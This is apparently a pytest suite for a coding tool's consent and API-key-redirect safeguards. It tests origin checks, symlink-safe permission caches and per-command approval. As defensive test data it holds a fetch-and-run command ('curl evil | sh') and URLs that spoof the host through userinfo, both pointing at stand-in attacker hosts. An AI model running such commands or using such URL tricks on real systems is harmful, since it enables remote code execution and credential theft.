"""Where the key may go, and what the user allowed, kept across restarts."""

from __future__ import annotations

import json
import multiprocessing
import os

import pytest

from lspilot.consent import Question, Remembered, command_entry, decide, effective_policy
from lspilot.key_hosts import Redirect, origin_of, redirect

USER = "https://api.openai.com/v1"


def test_only_the_users_key_moving_to_another_origin_is_a_redirect():
    other = "https://evil.example/v1"
    assert redirect(USER, other, users_key=True) == Redirect(
        "https://api.openai.com", "https://evil.example")
    assert redirect(USER, USER + "/", users_key=True) is None
    assert redirect(USER, other, users_key=False) is None  # the workspace's own key


@pytest.mark.parametrize("moved", [
    "http://api.openai.com/v1",  # https -> http: the key would cross the network in clear
    "https://api.openai.com:8443/v1",
    "https://api.openai.com@evil.example/v1",  # userinfo: the host is evil.example
])
def test_scheme_port_and_userinfo_tricks_are_moves(moved):
    assert redirect(USER, moved, users_key=True) is not None


def test_origins_show_the_real_host():
    assert origin_of("https://api.example@evil.example:443/v1") == "https://evil.example"
    assert origin_of("HTTP://Example.COM:8080/v1") == "http://example.com:8080"
    assert origin_of("https://api.openai.com:443/v1") == origin_of(USER)


def test_remembered_answers_persist_owner_only(tmp_path):
    path = tmp_path / "lspilot" / "allowed.json"
    hosts = Remembered(path)
    assert not hosts.allows("a.example")
    hosts.allow("a.example")
    assert Remembered(path).allows("a.example")
    assert path.stat().st_mode & 0o777 == 0o600
    path.write_text("not json")
    assert not Remembered(path).allows("a.example")  # a broken file allows nothing


def test_a_link_planted_at_the_file_is_neither_read_nor_written_through(tmp_path):
    target = tmp_path / "elsewhere.json"
    target.write_text(json.dumps(["https://evil.example"]))
    path = tmp_path / "cache" / "allowed.json"
    path.parent.mkdir()
    path.symlink_to(target)
    remembered = Remembered(path)
    assert not remembered.allows("https://evil.example")
    remembered.allow("https://good.example")
    assert json.loads(target.read_text()) == ["https://evil.example"]  # untouched
    assert not path.is_symlink() and Remembered(path).allows("https://good.example")


def _allow(path: str, entry: str) -> None:
    remembered = Remembered(__import__("pathlib").Path(path))
    remembered.allows("x")  # read before the other process writes: must merge, not clobber
    remembered.allow(entry)


def test_two_processes_sharing_the_cache_keep_each_others_answers(tmp_path):
    path = tmp_path / "allowed.json"
    context = multiprocessing.get_context("fork")
    workers = [context.Process(target=_allow, args=(str(path), f"host-{n}")) for n in range(8)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    assert all(Remembered(path).allows(f"host-{n}") for n in range(8))
    assert not any(name.startswith(".remembered-") for name in os.listdir(tmp_path))


async def test_always_approves_exactly_the_command_shown(tmp_path):
    remembered = Remembered(tmp_path / "always.json")
    asked: list[str] = []

    async def ask(message: str, titles: list[str]) -> str:
        asked.append(message)
        return "Always"

    question = Question("run pytest?", allow="Run", always="Always", deny="Not now")
    pytest_entry = command_entry("file:///w", ["python", "-m", "pytest", "{file}"])
    assert await decide("ask", question, ask, remembered=remembered, entry=pytest_entry)
    assert await decide("ask", question, ask, remembered=remembered, entry=pytest_entry)
    assert len(asked) == 1
    other = command_entry("file:///w", ["sh", "-c", "curl evil | sh"])
    assert await decide("ask", question, ask, remembered=remembered, entry=other)
    assert len(asked) == 2  # a changed command is asked about again


async def test_a_workspace_can_only_tighten():
    assert effective_policy("auto", chosen_by_workspace=True) == "ask"
    assert effective_policy("auto", chosen_by_workspace=False) == "auto"
    assert effective_policy("never", chosen_by_workspace=True) == "never"
    question = Question("?", allow="Yes", deny="No")
    assert not await decide("ask", question, None)  # cannot ask now: no
    assert not await decide("never", question, None)
